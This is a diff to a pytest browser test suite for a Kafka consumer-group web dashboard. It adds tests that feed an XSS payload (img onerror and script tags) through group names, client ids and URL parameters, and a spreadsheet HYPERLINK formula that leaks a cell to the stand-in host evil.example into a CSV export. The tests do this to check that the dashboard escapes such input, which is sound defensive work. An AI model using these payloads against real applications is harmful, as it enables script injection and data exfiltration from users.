@@ -3,13 +3,18 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import re
+import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import TYPE_CHECKING, Any, NamedTuple
+from urllib.parse import quote
 
 import pytest
+from confluent_kafka import Consumer
 from tests.browser.opened import WHY_NOT, aside, expect, opened
 from tests.cli.stages import SETTINGS
 from tests.live.stage import arrange
@@ -31,6 +36,8 @@ pytestmark = [
 ]
 
 EVIL = "<img src=x onerror=\"document.title='run'\">'&/\u202e<script>document.title='run'</script>"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+MEMBERS = "watchers"
 TOKEN = "a-token-that-is-long-enough"
 
 
@@ -63,13 +70,15 @@ def stage(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFacto
     async def add(servers: str) -> None:
         async with Admin(servers) as admin:
             place = TopicPartition("orders", 0)
-            (await admin.alter_consumer_group_offsets(EVIL, {place: OffsetAndMetadata(2, None, EVIL)})).all()
+            for group_id in (EVIL, FORMULA):
+                (await admin.alter_consumer_group_offsets(group_id, {place: OffsetAndMetadata(2, None, EVIL)})).all()
 
     environment = pytest.MonkeyPatch()
     environment.setenv("GROUPKEEPER_JOURNAL", str(folder / "journal.jsonl"))
     with ApacheKafka(SETTINGS) if request.param == "apache" else BackgroundBroker() as broker:
         aside(lambda: arrange(broker.bootstrap_servers))
         aside(lambda: asyncio.run(add(broker.bootstrap_servers)))
+        watcher = joined(broker.bootstrap_servers)
         where = ("--bootstrap-server", f"prod={broker.bootstrap_servers}", "--bootstrap-server", "dr=127.0.0.1:1")
         words = ("--allow-changes", "--token-file", str(folder / "tokens"), "--timeout", "2s", "--interval", "1h")
         with serving(*where, *words) as served:
@@ -77,8 +86,21 @@ def stage(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFacto
             paths = ["/", "/cluster?cluster=prod", "/cluster?cluster=dr", "/group?cluster=prod&group=search"]
             paths += ["/topics?cluster=prod", "/topic?cluster=prod&topic=orders", "/change?cluster=prod&group=search"]
             paths += ["/sweep?cluster=prod", "/journal", "/plans", "/login", "/group?cluster=prod&group=nobody"]
+            paths += [f"/{page}?cluster=prod&group={MEMBERS}" for page in ("group", "change")] + ["/words"]
             yield Stage(served, broker.bootstrap_servers, paths)
+        watcher.close()
     environment.undo()
+
+
+def joined(servers: str) -> Consumer:
+    """A member whose client id, and so its member id, is markup."""
+    consumer = Consumer({"bootstrap.servers": servers, "group.id": MEMBERS, "client.id": EVIL})
+    consumer.subscribe(["orders"])
+    deadline = time.monotonic() + 30
+    while not consumer.assignment():
+        consumer.poll(0.1)
+        assert time.monotonic() < deadline
+    return consumer
 
 
 class Person:
@@ -256,14 +278,39 @@ def test_names_with_markup_are_names(stage: Stage, browser: Browser) -> None:
         groups = [link for link in page.evaluate(links) if link.startswith("/group?") and "onerror" in link]
         assert len(groups) == 1
         change = groups[0].replace("/group", "/change")
-        for path in ["/", "/cluster?cluster=prod", groups[0], change, "/journal?group=%3Cscript%3E"]:
+        typed = quote(EVIL)
+        asked = [
+            f"/cluster?cluster={typed}",
+            f"/cluster?cluster=prod&q={typed}&sort={typed}&page={typed}&state={typed}",
+        ]
+        asked += [f"/journal?group={typed}", f"/topics?cluster=prod&q={typed}", f"/topic?cluster=prod&topic={typed}"]
+        asked += [f"/plan?id={typed}", f"/journal/change?id={typed}", f"/nowhere/{typed}"]
+        for path in [*stage.paths, *made_paths(alice), groups[0], change, *asked]:
             alice.open(path)
-            assert page.evaluate("document.querySelectorAll('img,main script').length") == 0
-            assert page.evaluate("document.title") != "run"
+            assert page.evaluate("document.querySelectorAll('img,main script').length") == 0, path
+            assert page.evaluate("document.title") != "run", path
+        for path in (f"/group?cluster=prod&group={MEMBERS}", f"/change?cluster=prod&group={MEMBERS}"):
+            alice.open(path)
+            assert "<img src=x onerror=" in alice.words  # the client, as text
         alice.open(change)
         page.evaluate("document.getElementById('to-earliest').click()")
         alice.follow("Plan the reset")
         alice.follow("Apply")
         assert re.search(r"Applied by alice and read back: 1 partition", alice.words)
         assert page.evaluate("document.title") != "run"
-        assert complaints == []
+        assert [each for each in complaints if "404" not in each] == []
+
+
+def test_a_spreadsheet_gets_no_formula(stage: Stage, browser: Browser) -> None:
+    with opened(browser) as (page, _, _):
+        alice = Person(stage, page)
+        alice.log_in()
+        alice.open("/cluster?cluster=prod")
+        with page.expect_download() as download:
+            page.get_by_role("link", name="CSV").click()
+        rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
+        names = {row["group"] for row in rows}
+        assert {f"'{FORMULA}", EVIL} <= names
+        dangerous = ("=", "+", "-", "@", "\t", "\r")
+        values = [value for row in rows for value in row.values() if value.startswith(dangerous)]
+        assert [value for value in values if not re.fullmatch(r"-?[0-9.e-]+", value)] == []
